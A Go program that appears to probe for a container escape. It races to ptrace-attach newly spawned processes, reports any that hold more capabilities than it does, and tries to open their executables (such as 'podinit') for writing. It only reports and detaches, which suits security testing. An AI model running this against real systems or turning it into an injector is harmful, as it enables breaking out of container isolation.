package main

import (
	"errors"
	"fmt"
	"io"
	"os"
	"os/signal"
	"runtime"
	"strconv"
	"strings"
	"syscall"
)

const (
	ptraceSeize     = 0x4206
	ptraceInterrupt = 0x4207
	ahead           = 8 // process ids that are tried around the newest
)

// catch attaches to each new process until it is signalled to end, and prints those that had more capabilities than itself.
func catch() error {
	runtime.LockOSThread() // tracees belong to a thread
	told := make(chan os.Signal, 1)
	signal.Notify(told, syscall.SIGTERM)
	own, err := capabilities(os.Getpid())
	if err != nil {
		return err
	}
	fmt.Println("ready")
	load, err := os.Open("/proc/loadavg")
	if err != nil {
		return err
	}
	defer load.Close()
	caught, low := 0, os.Getpid()+1
	for {
		select {
		case <-told:
			fmt.Println("caught in all:", caught)
			return nil
		default:
		}
		last, err := newest(load)
		if err != nil {
			return err
		}
		// Processes that ended uncaught must not keep later ones out of reach.
		low = max(low, last-ahead)
		for pid := low; pid < last+ahead; pid++ {
			overwrite(pid)
			switch err := ptrace(ptraceSeize, pid); {
			case err == nil:
				look(pid, own)
				if caught++; caught == 1 {
					fmt.Println("caught the first")
				}
				low = pid + 1
			case errors.Is(err, syscall.EPERM) && isOwnThread(pid):
				low = pid + 1
			}
		}
	}
}

// newest returns the last process id that the kernel gave away in this process namespace: the last field of /proc/loadavg.
func newest(load *os.File) (pid int, err error) {
	text := make([]byte, 64)
	n, err := load.ReadAt(text, 0)
	if err != nil && !errors.Is(err, io.EOF) {
		return 0, err
	}
	fields := strings.Fields(string(text[:n]))
	if len(fields) == 0 {
		return 0, errors.New("/proc/loadavg is empty")
	}
	return strconv.Atoi(fields[len(fields)-1])
}

// overwrite tries to open the program of a process for writing. The one that sets up commands belongs to the cluster.
func overwrite(pid int) {
	link := "/proc/" + strconv.Itoa(pid) + "/exe"
	program, err := os.Readlink(link)
	if err != nil {
		return
	}
	switch f, err := os.OpenFile(link, os.O_WRONLY, 0); {
	case err == nil:
		fmt.Println("the program", program, "can be written")
		_ = f.Close()
	case strings.Contains(program, "podinit"):
		fmt.Println("tried to write podinit:", err)
	}
}

// look says what a process can that was just caught, and lets it go.
func look(pid int, own uint64) {
	say := func(when string) {
		if theirs, err := capabilities(pid); err == nil && theirs&^own != 0 {
			fmt.Printf("caught %s a process with capabilities %x\n", when, theirs)
		}
	}
	say("running")
	if ptrace(ptraceInterrupt, pid) != nil {
		return
	}
	for {
		var ws syscall.WaitStatus
		switch _, err := syscall.Wait4(pid, &ws, syscall.WALL, nil); {
		case errors.Is(err, syscall.EINTR):
			continue
		case err != nil || !ws.Stopped():
			return
		}
		say("stopped")
		if ptrace(syscall.PTRACE_DETACH, pid) == nil {
			return
		}
		// It was killed while it stood still. The thread stays a zombie, and its process cannot end, until its tracer collects it.
	}
}

func ptrace(request, pid int) error {
	if _, _, errno := syscall.RawSyscall6(syscall.SYS_PTRACE, uintptr(request), uintptr(pid), 0, 0, 0, 0); errno != 0 {
		return errno
	}
	return nil
}

func isOwnThread(pid int) bool {
	_, err := os.Stat("/proc/self/task/" + strconv.Itoa(pid))
	return err == nil
}

// capabilities are all that a process has or may get.
func capabilities(pid int) (set uint64, err error) {
	b, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/status")
	for line := range strings.Lines(string(b)) {
		name, value, _ := strings.Cut(strings.TrimSpace(line), ":")
		switch name {
		case "CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb":
			bits, err := strconv.ParseUint(strings.TrimSpace(value), 16, 64)
			if err != nil {
				return 0, err
			}
			set |= bits
		}
	}
	return set, err
}
